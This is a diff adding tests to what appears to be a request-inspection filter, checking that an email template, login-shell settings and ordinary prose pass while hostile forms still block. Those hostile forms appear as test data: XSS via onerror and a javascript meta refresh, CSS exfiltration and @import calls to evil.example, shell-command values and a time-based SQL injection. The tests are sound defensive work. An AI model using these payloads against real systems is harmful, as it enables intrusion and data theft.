@@ -600,3 +600,44 @@ describe('rich text from an editor', () => {
       assert.ok(sev(s).includes('critical'), s);
   });
 });
+
+describe('everyday content a false-positive hunt found blocked', () => {
+  const json = (v: string) => post(JSON.stringify({ text: v }), 'application/json');
+  const worst = (v: string) => {
+    const sev = inspector.inspect(json(v)).map((f) => f.severity);
+    return sev.includes('critical') ? 'critical' : sev.includes('high') ? 'high' : 'lower';
+  };
+  test('an email template: doctype, meta charset and IE=edge, media queries, Outlook comments, Google Fonts', () => {
+    const email = [
+      '<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="X-UA-Compatible" content="IE=edge">',
+      '<meta name="viewport" content="width=device-width, initial-scale=1">',
+      '<link href="https://fonts.googleapis.com/css2?family=Inter:wght@400;600&display=swap" rel="stylesheet">',
+      '<style>@media only screen and (max-width:600px){.col{width:100%!important;}}</style></head>',
+      '<body><!--[if mso]><table><tr><td><![endif]--><p>Your receipt</p><!--[if mso]></td></tr></table><![endif]-->',
+      '</body></html>',
+    ].join('\n');
+    assert.equal(worst(email), 'lower');
+  });
+  test('the dangerous forms of the same markup still block', () => {
+    for (const v of [
+      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+      '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
+      '<style>@import url(https://evil.example/x.css)</style>',
+      '<meta charset="utf-8"><img src=x onerror=alert(1)>',
+    ])
+      assert.equal(worst(v), 'critical', v);
+  });
+  test("a user's login shell is a setting (medium); elsewhere, or run with arguments, it blocks", () => {
+    const sev = (body: object) =>
+      inspector.inspect(post(JSON.stringify(body), 'application/json')).filter((f) => f.severity === 'critical');
+    assert.deepEqual(sev({ uid: 'jdoe', loginShell: '/bin/bash' }), []);
+    assert.deepEqual(sev({ shell: '/usr/bin/zsh' }), []);
+    assert.notDeepEqual(sev({ exec: '/bi[n]/bash' }), []);
+    assert.notDeepEqual(sev({ shell: '/bin/bash -c id' }), []);
+  });
+  test('"sleep (8 hrs)" is prose, sleep(5) is SQL; jQuery is not command substitution', () => {
+    assert.equal(worst('sleep (8 hrs) is important'), 'lower');
+    assert.equal(worst("1' and sleep(5)#"), 'critical');
+    assert.notEqual(worst('$(document).ready(function() { init(); });'), 'critical');
+  });
+});
